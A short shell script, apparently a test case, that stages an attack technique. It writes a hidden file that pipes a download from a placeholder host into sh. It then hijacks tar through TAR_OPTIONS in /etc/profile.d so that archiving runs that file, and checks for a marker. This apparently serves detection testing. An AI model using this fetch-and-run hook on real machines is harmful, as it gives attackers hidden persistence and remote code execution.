#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/usr/local/share/.c && chmod 755 /usr/local/share/.c
echo 'export TAR_OPTIONS="--checkpoint=1 --checkpoint-action=exec=/usr/local/share/.c"' >/etc/profile.d/archive.sh
bash -lc 'tar -cf /tmp/backup.tar /srv/data'
test -e /tmp/reached
took_place
